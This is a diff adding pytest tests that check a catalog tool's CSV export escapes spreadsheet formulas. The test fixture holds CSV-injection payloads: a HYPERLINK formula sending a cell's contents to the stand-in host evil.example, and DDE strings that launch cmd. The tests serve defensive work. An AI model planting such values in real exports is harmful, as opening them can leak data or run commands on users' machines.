@@ -686,3 +686,75 @@ def test_an_oversized_value_in_an_import_is_refused(shipped_path, tmp_path, monk
     before = dump(shipped_path)
     refused(run(shipped_path, "import", str(theirs)), 1, "theirs.gpkg", "too big")
     assert dump(shipped_path) == before
+
+
+# -- spreadsheet formulas in CSV outputs (issue 15, item 6) ------------------------------------
+
+EVIL = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+        "alias": "=Evil(1)",
+        "title": "+cmd|' /C calc'!A0",
+        "quote": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "notes": "-2+3+cmd|' /C calc'!A0"}
+
+
+@pytest.fixture
+def evil_path(shipped_path):
+    for args in (["update-site", "kp-sakkanmol", "--name", EVIL["name"],
+                  "--notes", EVIL["notes"]],
+                 ["add-alias", "kp-sakkanmol", EVIL["alias"]],
+                 ["add-source", "s-evil", "--title", EVIL["title"]],
+                 ["cite", "kp-sakkanmol", "s-evil", "--quote", EVIL["quote"]]):
+        r = run(shipped_path, *args)
+        assert r.exit_code == 0, (args, r.output)
+    return shipped_path
+
+
+def _cells(path) -> list[str]:
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as f:
+        return [c for row in csv.reader(f) for c in row]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_exports_neutralise_formulas(evil_path, tmp_path):
+    out = tmp_path / "x" / "sites.csv"
+    r = run(evil_path, "export", "-o", str(out))
+    assert r.exit_code == 0, r.output
+    cells = [c for f in out.parent.iterdir() for c in _cells(f)]
+    runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                and not _number(c)]
+    assert runnable == []
+    for value in EVIL.values():
+        assert "'" + value in cells
+    # the import takes them back as they were
+    other = tmp_path / "other.gpkg"
+    assert run(other, "init").exit_code == 0
+    r = run(other, "import", str(out))
+    assert r.exit_code == 0, r.output
+    with open_catalog(other) as cat:
+        s = cat.get_site("kp-sakkanmol")
+        assert (s.name, s.notes) == (EVIL["name"], EVIL["notes"])
+        assert EVIL["alias"] in [a.alias for a in cat.aliases("kp-sakkanmol")]
+        assert cat.get_source("s-evil").title == EVIL["title"]
+        assert EVIL["quote"] in [c.quote for c in cat.citations(site_id="kp-sakkanmol")]
+
+
+def test_csv_formula_escaping_can_be_turned_off_and_covers_query(evil_path, tmp_path):
+    out = tmp_path / "raw.csv"
+    r = run(evil_path, "export", "-o", str(out), "--no-escape-formulas")
+    assert r.exit_code == 0, r.output
+    assert EVIL["name"] in _cells(out)
+    r = run(evil_path, "query", "--format", "csv", "--name", "Sakkanmol")
+    assert r.exit_code == 0, r.output
+    import csv
+
+    cells = [c for row in csv.reader(io.StringIO(r.stdout)) for c in row]
+    assert "'" + EVIL["name"] in cells and EVIL["name"] not in cells
